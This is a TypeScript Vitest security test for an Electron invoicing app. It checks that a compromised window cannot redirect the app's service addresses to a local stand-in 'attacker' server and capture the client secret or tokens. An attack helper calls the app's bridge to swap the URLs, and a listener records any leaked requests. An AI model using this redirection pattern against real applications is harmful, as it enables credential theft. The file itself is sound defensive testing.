/**
 * A compromised window tries to send the client secret, and fresh tokens, to a server of its own:
 * it points the service addresses at that server, then asks for a service account and a browser
 * connect. The secret is bound to the service it was entered for, an environment secret locks the
 * addresses, and a new address takes effect only when the user confirms it in a native dialog.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { InvoiceDeskApi } from '../../electron/ipc/contract';
import { startSandbox, type Sandbox } from '../../electron/sandbox';
import { launchApp, type LaunchedApp } from '../harness/launch-app';
import { serviceEnv } from './helpers/connect';

/** The attacker's server: records every request it receives. */
async function startListener(): Promise<{ url: string; seen: string[]; close(): Promise<void> }> {
  const seen: string[] = [];
  const server: Server = createServer((request, response) => {
    let body = '';
    request.on('data', (chunk: Buffer) => (body += chunk.toString()));
    request.on('end', () => {
      seen.push(JSON.stringify({ url: request.url, headers: request.headers, body }));
      response.writeHead(200, { 'content-type': 'application/json' }).end('{"access_token":"x","token_type":"bearer","expires_in":3600}');
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    seen,
    close: () => new Promise((resolve) => server.close(() => resolve())),
  };
}

type Reply = { ok: boolean; error?: { kind: string; message: string } };

/** The attack, run from the page with the bridge the window has. */
function attack(app: LaunchedApp, attackerUrl: string, tenantId: string): Promise<{ update: Reply; serviceAccount: Reply; start: Reply }> {
  return app.page.evaluate(
    async ({ url, tenant }) => {
      const desk = (window as unknown as { invoiceDesk: InvoiceDeskApi }).invoiceDesk;
      const update = (await desk.settings.update({ authUrl: url, apiUrl: url })) as Reply;
      const serviceAccount = (await desk.connect.serviceAccount({ tenantId: tenant })) as Reply;
      const start = (await desk.connect.start({ demo: false })) as Reply;
      return { update, serviceAccount, start };
    },
    { url: attackerUrl, tenant: tenantId },
  );
}

describe('the client secret goes only to the service it was entered for', () => {
  let sandbox: Sandbox;
  let listener: Awaited<ReturnType<typeof startListener>>;
  let app: LaunchedApp | undefined;
  beforeAll(async () => {
    sandbox = await startSandbox();
  });
  afterEach(async () => {
    await app?.close();
    app = undefined;
    await listener?.close();
  });
  afterAll(async () => {
    await sandbox?.close();
  });
  const tenant = () => sandbox.companies[0]!.tenantId;
  const basic = () => Buffer.from(`${sandbox.clientId}:${sandbox.clientSecret}`).toString('base64');

  it('refuses a new address while the secret comes from the environment, and nothing reaches the attacker', async () => {
    listener = await startListener();
    // The addresses stored in the app, the secret and client id from the environment (a
    // user's setup the window must not exploit): first store the addresses as the user would.
    app = await launchApp();
    const stored = await app.page.evaluate(
      ({ authUrl, apiUrl }) => (window as unknown as { invoiceDesk: InvoiceDeskApi }).invoiceDesk.settings.update({ authUrl, apiUrl }),
      { authUrl: sandbox.authUrl, apiUrl: sandbox.apiUrl },
    );
    expect(stored.ok).toBe(true);
    const userDataDir = app.userDataDir;
    await app.close({ keepUserData: true });
    app = await launchApp({ userDataDir, env: { INVOICE_DESK_CLIENT_ID: sandbox.clientId, INVOICE_DESK_CLIENT_SECRET: sandbox.clientSecret } });

    const result = await attack(app, listener.url, tenant());
    expect(result.update).toMatchObject({ ok: false, error: { kind: 'bad-request' } });
    expect(result.update.error?.message).toMatch(/INVOICE_DESK_CLIENT_SECRET/);
    expect(listener.seen).toEqual([]);
    // The browser connect opens the configured service, never the attacker's page.
    for (const url of app.openedExternal()) expect(url.startsWith(sandbox.authUrl)).toBe(true);
    // The form shows the addresses read-only.
    await app.page.getByRole('button', { name: 'Inställningar' }).click();
    expect(await app.page.getByLabel('Inloggningsadress', { exact: true }).isDisabled()).toBe(true);
    expect(await app.page.getByLabel('Client ID').isDisabled()).toBe(true);
  });

  it('asks the user in a native dialog before a new address takes effect; declined, nothing changes', async () => {
    listener = await startListener();
    // First save (confirmed by the user: button 0), then the attack (declined: button 1).
    app = await launchApp({ messageBoxAnswers: [0, 1] });
    const saved = await app.page.evaluate(
      (service) => (window as unknown as { invoiceDesk: InvoiceDeskApi }).invoiceDesk.settings.update(service),
      { authUrl: sandbox.authUrl, apiUrl: sandbox.apiUrl, clientId: sandbox.clientId, clientSecret: sandbox.clientSecret },
    );
    expect(saved).toMatchObject({ ok: true, value: { demoMode: false } });

    const result = await attack(app, listener.url, tenant());
    expect(result.update).toMatchObject({ ok: false, error: { kind: 'cancelled' } });
    // The dialog named the address the window asked for, as the main process parsed it.
    const detail = ((app.fake!.dialogCalls.at(-1) as unknown[]).at(-1) as { detail: string }).detail;
    expect(detail).toContain(`Värd: 127.0.0.1\n  Port: ${new URL(listener.url).port}\n`);
    expect(listener.seen).toEqual([]);
    // The declined change left the service as it was: the service account was minted there.
    expect(result.serviceAccount.ok).toBe(true);
    const settings = await app.page.evaluate(() => (window as unknown as { invoiceDesk: InvoiceDeskApi }).invoiceDesk.settings.get());
    expect(settings).toMatchObject({ ok: true, value: { authUrl: sandbox.authUrl, clientSecretSet: true } });
  });

  it('a confirmed new address drops the stored secret: the attacker never receives it', async () => {
    listener = await startListener();
    app = await launchApp(); // the user confirms every dialog
    await app.page.evaluate(
      (service) => (window as unknown as { invoiceDesk: InvoiceDeskApi }).invoiceDesk.settings.update(service),
      { authUrl: sandbox.authUrl, apiUrl: sandbox.apiUrl, clientId: sandbox.clientId, clientSecret: sandbox.clientSecret },
    );
    await attack(app, listener.url, tenant());
    for (const request of listener.seen) {
      expect(request).not.toContain(sandbox.clientSecret);
      expect(request).not.toContain(basic());
    }
  });

  it('with every setting from the environment, the window cannot move the service', async () => {
    listener = await startListener();
    app = await launchApp({ env: serviceEnv(sandbox) });
    const result = await attack(app, listener.url, tenant());
    expect(result.update.ok).toBe(false);
    expect(result.serviceAccount.ok).toBe(true);
    expect(listener.seen).toEqual([]);
  });
});
